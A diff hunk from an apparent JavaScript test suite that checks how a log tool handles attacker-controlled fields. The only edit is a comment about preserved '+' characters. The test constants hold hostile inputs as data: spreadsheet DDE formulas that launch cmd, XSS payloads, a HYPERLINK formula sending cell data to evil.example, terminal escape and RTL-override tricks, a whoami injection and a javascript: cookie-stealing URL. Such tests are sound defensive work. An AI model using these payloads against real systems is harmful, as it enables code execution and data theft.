@@ -221,7 +221,7 @@ describe("attacker text in the data", () => {
   // Text the attacker controls: the command the shell ran, and what the attacker's requests carried.
   const COMMAND = `=cmd|' /C calc'!A0 & echo "<script>alert(1)</script>" | more; // \u0007\u001b[31mred\r\n\u202etxt.exe`;
   const ALERT_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
-  // No "+": W3CIISLog keeps IIS's "+" for a space in user agents, and the reader turns it back (by design).
+  // Kept as logged, "+" and all (docs/design.md §4.10): the records carry it unchanged.
   const USER_AGENT = `@SUM(1*1)|cmd|' /C calc'!A0 <img src=x onerror=alert(1)> "quoted" \u0000\u001b]0;title\u0007`;
   const QUERY = `+cmd=whoami&x='"|;--<b>`;
   const REFERER = `-2+3 javascript:alert(document.cookie)`;
